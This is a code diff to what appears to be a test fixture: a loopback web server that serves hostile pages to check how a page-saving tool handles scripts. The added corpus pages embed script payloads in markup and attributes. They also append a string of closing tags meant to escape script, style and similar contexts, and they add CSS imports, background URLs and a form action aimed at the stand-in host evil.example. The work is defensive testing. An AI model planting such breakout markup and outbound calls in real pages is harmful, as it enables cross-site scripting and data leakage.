@@ -10,6 +10,23 @@ function payloadPage(number: number): string {
 <meta property="og:site_name" content="${written}"><meta name="keywords" content="${written}"><h1>${written}</h1>`;
 }
 
+/** Ends of the elements in which what follows would be no markup. */
+const ENDINGS = "</script></style></textarea></title></xmp></noscript></template></select></svg></math>-->]]>";
+
+/** Pages that have all script payloads together, each as markup in the page and in an attribute. */
+export const CORPUS_PAGES = 12;
+
+/** A page to be kept, with every twelfth script payload. */
+function corpusPage(number: number): string {
+  const texts = scriptPayloads.filter((_, n) => n % CORPUS_PAGES === number);
+  const words = "Words of an article, with commas, that go on for a while about tides, the moon, and the harbour. ";
+  const parts = texts.map((text) => `<p>${words.repeat(2)}</p><div title="${text}">${text}${ENDINGS}</div>`);
+  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Corpus ${number}</title>
+<style>@import '//evil.example/x.css';h1{background:url(//evil.example/y)}</style>
+<form action="//evil.example/" id="sent"><input name="a"><button>Send</button></form>
+<article><h1>Corpus ${number}</h1>${parts.join("\n")}</article>`;
+}
+
 /** 64 × 64 px, brass. */
 const PNG = Buffer.from(
   "iVBORw0KGgoAAAANSUhEUgAAAEAAAABACAIAAAAlC+aJAAAAT0lEQVR42u3PQQkAAAgEsOtlPzMZzwi+hcEKLNP1WgQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQELgtRVZFam+k8cwAAAABJRU5ErkJggg==",
@@ -29,7 +46,8 @@ const page = (title: string): string => `<!doctype html>
 
 /**
  * A web site on loopback: `/pages/<title>` is a page of that title, with picture and icon, and `/moved/<title>` redirects to
- * it. `/hostile/<number>`, `/raw/<number>` and `/payload/<number>/…` are pages that try to run scripts where they are shown.
+ * it. `/hostile/<number>`, `/raw/<number>` and `/payload/<number>/…` are pages that try to run scripts where they are shown, and
+ * `/corpus/<number>` where a copy of them is.
  */
 export const startSite = (): Promise<HttpServer> =>
   startHttpServer((request, response) => {
@@ -38,6 +56,7 @@ export const startSite = (): Promise<HttpServer> =>
     const path = pathname.startsWith("/payload/") ? pathname : decodeURIComponent(pathname);
     const send = (type: string, body: string | Buffer) => response.writeHead(200, { "content-type": type }).end(body);
     if (path.startsWith("/pages/")) send("text/html; charset=utf-8", page(path.slice("/pages/".length)));
+    else if (path.startsWith("/corpus/")) send("text/html; charset=utf-8", corpusPage(Number(path.slice(8))));
     else if (path.startsWith("/payload/")) send("text/html", payloadPage(Number.parseInt(path.slice(9), 10)));
     else if (path.startsWith("/moved/"))
       response.writeHead(302, { location: `/pages/${encodeURIComponent(path.slice("/moved/".length))}` }).end();
